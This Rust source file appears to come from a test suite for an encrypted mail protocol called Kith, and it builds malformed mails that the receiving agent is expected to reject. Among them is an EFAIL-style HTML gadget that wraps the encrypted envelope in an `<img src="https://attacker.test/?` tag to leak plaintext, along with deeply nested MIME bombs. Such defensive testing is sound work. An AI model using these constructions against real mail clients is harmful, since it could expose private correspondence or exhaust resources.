//! Faults of the chapter "Mail format".

use kith_spec::req;

use super::{Base, Fault};
use crate::draft::DeliveryDraft;
use crate::mime::{Body, Part, TransferEncoding};
use crate::openpgp::{ArmorKind, armor};
use crate::puppet::Puppet;

pub(super) fn faults() -> Vec<Fault> {
    [recognition(), structure(), payload(), parts(), open()].concat()
}

/// An ordinary text mail.
fn ordinary(text: &str) -> Part {
    Part::text(text)
}

/// A multipart nested this deep, with a text at the bottom; the text is at
/// `depth`, where 1 is the part itself.
pub(super) fn nested(depth: usize) -> Part {
    let mut part = Part::text("Deep down.\n");
    for level in 1..depth {
        part = Part::multipart("multipart/mixed", &format!("level-{level}"), vec![part]);
    }
    part
}

fn recognition() -> Vec<Fault> {
    let untrusted = &req::MAIL_KITH_VERSION_UNTRUSTED;
    vec![
        Fault::new(
            "mail/version-alone",
            "an ordinary mail that only claims to be Kith mail in its header",
            untrusted,
            Base::Request,
        )
        .open(|_, draft| {
            draft.objects.clear();
            draft.mail.root.set(|root| {
                let fields = root.fields.into_iter();
                let outer = fields.filter(|(name, _)| name != "Content-Type");
                ordinary("I am Kith mail, believe me.\n").fields_first(outer.collect())
            });
        }),
        Fault::new(
            "mail/encrypted-but-not-kith",
            "an ordinary encrypted mail to the agent's key",
            untrusted,
            Base::Message,
        )
        .also(&req::MAIL_RECOGNISE)
        .sealed(|_, draft| {
            draft.objects.clear();
            draft.mail.kith_version = false;
            draft
                .inner
                .set(|_| ordinary("Dear Bob, this is only for you.\n"));
        }),
        Fault::new(
            "mail/envelope-not-at-root",
            "the envelope stands in a multipart with HTML around it",
            untrusted,
            Base::Message,
        )
        .also(&req::MAIL_RECOGNISE)
        .also(&req::MAIL_STRUCTURE)
        .also(&req::MAIL_OUTSIDE_IGNORED)
        .flags(&["efail"])
        .sealed(|_, draft| {
            draft.mail.kith_version = false;
            draft.mail.root.set(html_around);
        }),
        Fault::new(
            "mail/too-large",
            "a mail one octet larger than the limit",
            &req::MAIL_SIZE,
            Base::Request,
        )
        .flags(&["compact"])
        .open(|_, draft| {
            draft.mail.raw.set(|mut octets| {
                fill(&mut octets, kith_spec::limit::MAIL_OCTETS as usize + 1);
                octets
            });
        }),
    ]
}

/// Adds lines at the end of a mail until it has this many octets.
fn fill(octets: &mut Vec<u8>, size: usize) {
    const LINE: &[u8] =
        b"......................................................................\r\n";
    while octets.len() + LINE.len() <= size {
        octets.extend(LINE);
    }
    octets.resize(size.max(octets.len()), b'.');
}

fn html_around(mut root: Part) -> Part {
    let kind = "text/html; charset=utf-8";
    let html = |text: &str| Part::content(kind, text, TransferEncoding::SevenBit);
    let outer = root.fields.iter();
    let (outer, own) = outer.cloned().partition(|(name, _)| name != "Content-Type");
    root.fields = own;
    let parts = vec![
        html("<img src=\"https://attacker.test/?"),
        root,
        html("\">"),
    ];
    Part::multipart("multipart/mixed", "gadget", parts).fields_first(outer)
}

fn structure() -> Vec<Fault> {
    let rule = &req::MAIL_STRUCTURE;
    vec![
        Fault::new(
            "mail/wrong-protocol",
            "multipart/encrypted with the protocol of another standard",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft.mail.root.set(|mut root| {
                let kind = root.get("Content-Type").unwrap_or_default().to_owned();
                let kind = kind.replace("application/pgp-encrypted", "application/pkcs7-mime");
                root.set("Content-Type", &kind);
                root
            });
        }),
        Fault::new(
            "mail/third-part",
            "a third part beside the two of the envelope",
            rule,
            Base::Message,
        )
        .flags(&["efail"])
        .sealed(|_, draft| {
            draft.mail.root.set(|mut root| {
                if let Some(parts) = root.parts() {
                    parts.push(Part::text("An invoice, as discussed.\n"));
                }
                root
            });
        }),
        Fault::new(
            "mail/parts-swapped",
            "the two parts of the envelope in the wrong order",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft.mail.root.set(|mut root| {
                if let Some(parts) = root.parts() {
                    parts.reverse();
                }
                root
            });
        }),
        Fault::new(
            "mail/control-part-missing",
            "the envelope without its part application/pgp-encrypted",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft.mail.root.set(|mut root| {
                if let Some(parts) = root.parts() {
                    parts.remove(0);
                }
                root
            });
        }),
        Fault::new(
            "mail/not-openpgp",
            "an envelope whose armor holds no OpenPGP packets",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft
                .armored
                .set(|_| armor(ArmorKind::Message, b"Nothing of that kind."));
        }),
    ]
}

fn payload() -> Vec<Fault> {
    let (envelope, rule) = (&req::MAIL_ONE_ENVELOPE, &req::MAIL_PAYLOAD);
    vec![
        Fault::new(
            "mail/envelope-in-envelope",
            "a second multipart/encrypted among the decrypted parts",
            envelope,
            Base::Message,
        )
        .flags(&["wrapping"])
        .sealed(|scene, draft| {
            let inner = scene.author.message(&scene.recipient, "Inside.", scene.now);
            let rendered = inner.and_then(|inner| inner.render(&mut scene.rng));
            let Some(mail) = scene.keep(rendered) else {
                return;
            };
            let text = String::from_utf8_lossy(&mail.octets);
            let start = text.find("Content-Type:").unwrap_or(0);
            let octets = mail.octets[start..].to_vec();
            add_raw(draft, octets);
        }),
        Fault::new(
            "mail/signed-part-in-envelope",
            "a multipart/signed among the decrypted parts",
            envelope,
            Base::Message,
        )
        .flags(&["wrapping"])
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                let signature = Part::content(
                    "application/pgp-signature",
                    "no signature at all\r\n",
                    TransferEncoding::SevenBit,
                );
                let kind =
                    "multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256";
                let parts = vec![Part::text("Signed elsewhere.\n"), signature];
                add(&mut root, Part::multipart(kind, "signed", parts));
                root
            });
        }),
        Fault::new(
            "mail/message-in-envelope",
            "an armored OpenPGP message among the decrypted parts",
            envelope,
            Base::Message,
        )
        .flags(&["wrapping"])
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                let message = armor(ArmorKind::Message, &[0xCB, 0x06, b'b', 0, 0, 0, 0, 0]);
                let kind = "application/octet-stream";
                add(
                    &mut root,
                    Part::content(kind, message, TransferEncoding::SevenBit),
                );
                root
            });
        }),
        Fault::new(
            "mail/no-delivery-document",
            "a payload without delivery document",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft
                .inner
                .set(|root| without(root, "application/kith+xml"));
        }),
        Fault::new(
            "mail/two-delivery-documents",
            "a payload with two delivery documents",
            rule,
            Base::Message,
        )
        .flags(&["wrapping"])
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                if let Some(document) = root.find("application/kith+xml").cloned() {
                    add(&mut root, document);
                }
                root
            });
        }),
        Fault::new(
            "mail/payload-not-mixed",
            "a payload that is a multipart/alternative",
            rule,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                let kind = root.get("Content-Type").unwrap_or_default().to_owned();
                root.set("Content-Type", &kind.replace("/mixed", "/alternative"));
                root
            });
        }),
    ]
}

/// Adds a part at the end.
pub(super) fn add(root: &mut Part, part: Part) {
    if let Some(parts) = root.parts() {
        parts.push(part);
    }
}

/// Without the parts of this type.
pub(super) fn without(mut root: Part, kind: &str) -> Part {
    if let Some(parts) = root.parts() {
        parts.retain(|part| part.kind() != kind);
    }
    root
}

/// Adds a part written before, at the end of the decrypted parts.
fn add_raw(draft: &mut crate::draft::Draft, octets: Vec<u8>) {
    draft.inner.set(move |mut root| {
        let text = String::from_utf8_lossy(&octets);
        let (header, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
        let value = header.replace("\r\n ", " ");
        let value = value.split_once(':').map_or("", |(_, value)| value.trim());
        let part = Part {
            fields: vec![("Content-Type".to_owned(), value.to_owned())],
            body: Body::Raw(body.as_bytes().to_vec()),
        };
        add(&mut root, part);
        root
    });
}

fn parts() -> Vec<Fault> {
    let (missing, twice) = (&req::MAIL_LISTED_PRESENT, &req::MAIL_PART_ONCE);
    vec![
        Fault::new(
            "mail/object-missing",
            "a delivery that lists an object which is not in the mail",
            missing,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft
                .inner
                .set(|root| without(root, "application/kith-object"));
        }),
        Fault::new(
            "mail/one-object-missing",
            "a delivery that lists two objects, of which one is in the mail",
            missing,
            Base::Message,
        )
        .sealed(|scene, draft| {
            let other = scene
                .author
                .message_object(&scene.recipient, "And this.", None, scene.now);
            draft.objects.push(other.into());
            draft.inner.set(|mut root| {
                if let Some(parts) = root.parts() {
                    let last = |part: &Part| part.kind() == "application/kith-object";
                    if let Some(last) = parts.iter().rposition(last) {
                        parts.remove(last);
                    }
                }
                root
            });
        }),
        Fault::new(
            "mail/object-replaced",
            "an object of the sender in the place of the one that is listed",
            missing,
            Base::Message,
        )
        .flags(&["wrapping"])
        .sealed(|scene, draft| {
            let other = scene
                .author
                .message_object(&scene.recipient, "Instead.", None, scene.now);
            let part = other.sign(&mut scene.rng).part();
            draft.inner.set(move |mut root| {
                if let Some(object) = root.find("application/kith-object") {
                    *object = part.clone();
                }
                root
            });
        }),
        Fault::new(
            "mail/certificate-missing",
            "an accept's delivery that lists a certificate which is not in the mail",
            missing,
            Base::Accept,
        )
        .sealed(|_, draft| {
            draft
                .inner
                .set(|root| without(root, "application/pgp-keys"));
        }),
        Fault::new(
            "mail/object-twice",
            "a delivery that holds the same object in two parts",
            twice,
            Base::Message,
        )
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                if let Some(object) = root.find("application/kith-object").cloned() {
                    add(&mut root, object);
                }
                root
            });
        }),
        Fault::new(
            "mail/too-deep",
            "a payload whose parts are nested one level too deep",
            &req::MAIL_MIME_BOUNDS,
            Base::Message,
        )
        .flags(&["mime-bomb"])
        .sealed(|_, draft| {
            draft.inner.set(|mut root| {
                add(&mut root, nested(kith_spec::limit::MIME_DEPTH as usize));
                root
            });
        }),
        Fault::new(
            "mail/much-too-deep",
            "an open mail whose parts are nested a thousand levels deep",
            &req::MAIL_MIME_BOUNDS,
            Base::Request,
        )
        .flags(&["mime-bomb"])
        .open(|_, draft| {
            draft.parts.set(|mut parts| {
                parts.push(nested(1000));
                parts
            });
        }),
        Fault::new(
            "mail/too-many-parts",
            "a payload with one part too many",
            &req::MAIL_MIME_BOUNDS,
            Base::Message,
        )
        .flags(&["mime-bomb"])
        .sealed(|_, draft| draft.inner.set(crowd)),
    ]
}

/// Adds empty parts until there is one too many, the root included.
fn crowd(mut root: Part) -> Part {
    let limit = kith_spec::limit::MIME_PARTS as usize;
    while root.parts().is_some_and(|parts| parts.len() < limit) {
        add(&mut root, Part::text(""));
    }
    root
}

fn open() -> Vec<Fault> {
    let private = &req::MAIL_OPEN_PRIVATE;
    vec![
        Fault::new(
            "mail/delivery-in-open-mail",
            "a delivery document with its message in an open mail",
            &req::MAIL_DELIVERY_SEALED,
            Base::Request,
        )
        .also(&req::MAIL_NEVER_CLEAR)
        .open(|scene, draft| {
            let (to, now) = (scene.recipient.clone(), scene.now);
            let message = scene.author.message_object(&to, &scene.text, None, now);
            let message = message.sign(&mut scene.rng);
            let mut delivery = DeliveryDraft::new(scene.author.party(), to.party());
            delivery.channel = Some(scene.author.next_seq(to.id));
            let xml = delivery.document(&[message.hash], &[]);
            let document = Part::content("application/kith+xml", xml, TransferEncoding::Base64);
            draft.objects = vec![message.into()];
            draft.certificates.clear();
            draft.parts.set(move |mut parts| {
                parts.insert(1, document.clone());
                parts
            });
        }),
        Fault::new(
            "mail/message-in-open-mail",
            "a friend's message in an open mail",
            private,
            Base::Request,
        )
        .also(&req::MAIL_NEVER_CLEAR)
        .open(|scene, draft| {
            let to = scene.recipient.clone();
            let object = scene
                .author
                .message_object(&to, &scene.text, None, scene.now);
            draft.objects = vec![object.into()];
            draft.certificates.clear();
        }),
        Fault::new(
            "mail/post-in-open-mail",
            "a post for friends in an open mail",
            private,
            Base::Request,
        )
        .also(&req::MAIL_NEVER_CLEAR)
        .open(|scene, draft| {
            draft.objects = vec![scene.author.post_object(&scene.text, scene.now).into()];
            draft.certificates.clear();
        }),
        Fault::new(
            "mail/only-credentials",
            "an open mail with chain, contact and certificate and nothing that asks for them",
            &req::MAIL_OPEN_UNKNOWN,
            Base::Request,
        )
        .open(|_, draft| {
            draft.objects.pop();
        }),
        Fault::new(
            "mail/public-post-of-a-stranger",
            "an open mail with a public object that nobody asked for",
            &req::MAIL_OPEN_UNKNOWN,
            Base::Request,
        )
        .open(|scene, draft| {
            draft.objects = vec![public_object(&mut scene.author, &scene.text, scene.now).into()];
            draft.certificates.clear();
        }),
    ]
}

fn public_object(
    author: &mut Puppet,
    text: &str,
    now: crate::Instant,
) -> crate::draft::ObjectDraft {
    let mut object = author.foreign_object(text, now);
    object.audience = "public".to_owned();
    object
}
